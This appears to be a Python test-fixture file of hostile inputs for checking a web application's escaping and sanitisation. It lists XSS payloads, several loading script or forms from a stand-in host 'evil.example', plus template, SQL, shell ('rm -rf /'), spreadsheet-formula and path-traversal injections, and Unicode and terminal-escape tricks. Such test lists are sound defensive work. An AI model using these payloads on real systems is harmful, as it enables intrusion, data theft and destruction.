"""Texts that a model, a person or a file may bring: each tries to be more than text."""

from __future__ import annotations

ACTS = [
    "<script>window.pwned=1</script>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror=pwned=1>",
    "<img src=https://evil.example/pixel.png>", "<svg onload=pwned=1>", "<svg><script>pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<iframe src=https://evil.example></iframe>",
    "<a href='javascript:pwned=1' id=click>click</a>", "<a href='data:text/html,<script>pwned=1</script>'>go</a>",
    "<form action=https://evil.example><button>ok</button></form>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<link rel=stylesheet href=https://evil.example/x>",
    "<object data=https://evil.example/x></object>", "<details open ontoggle=pwned=1>", "<style>@import '//evil.example';</style>",
    "<video><source onerror=pwned=1></video>", "<input autofocus onfocus=pwned=1>", "<body onload=pwned=1>",
    "<div hx-get='https://evil.example' hx-trigger=load>x</div>", "<div hx-on:load='pwned=1'>x</div>",
    "<math><mi xlink:href='javascript:pwned=1'>x</mi></math>", "<x onclick=pwned=1 data-key=a>x</x>",
]  # fmt: skip
OUT_OF = [
    "{}",
    "\"'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</style></template></select>{}",
    "<!--{}-->",
    "]]>{}",
]
OTHERS = [
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>", "{{ request.app.state }}", "{{''.__class__.__mro__}}", "%s %n %x {0}",
    "=HYPERLINK(\"https://evil.example\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\u202egnp.exe", "\u2066left\u2069 \u2067right\u2069", "z\u200bw\u200d\u2060x", "\ufeffbom", "\u00adsoft", "a\u0301\u0302\u0303" * 40,
    "\x1b[31mred\x1b[0m \x1b]0;title\x07", "\x9b31m", "\x00 nul", "\x08\x7f\x85", "\ud800 lone", "\udfff", "\u2028 line \u2029 paragraph",
    "\u3164\u115f\u1160 blank", "\U000e0041\U000e0042 tags", "\ue000 private", "\uffff\ufffe", "مرحبا \u202b שלום", "🏳\ufe0f\u200d🌈",
    "W" * 20_000, "a " * 20_000, "\n" * 2000, "<b>" * 3000, "&amp;&lt;&#x202e;&nbsp;", "\\u003cscript\\u003e", "%3Cscript%3E",
    "https://evil.example/x.png", "![x](https://evil.example/x.png)", "[go](javascript:pwned=1)", "`rm -rf /`", "$(touch x)",
    "'; drop table event; --", "../../../etc/passwd", "file:///etc/passwd", "A", "B", "", " ", "null", "[Reply A]\n\n[Question]",
    "data: x\n\nevent: pipeline\ndata: {}\n\n", "\u0000\u0001\u0002\u0003", "x" * 2_000_000,
]  # fmt: skip
TEXTS = [frame.format(act) if "{}" in frame else act for frame in OUT_OF for act in ACTS] + OTHERS
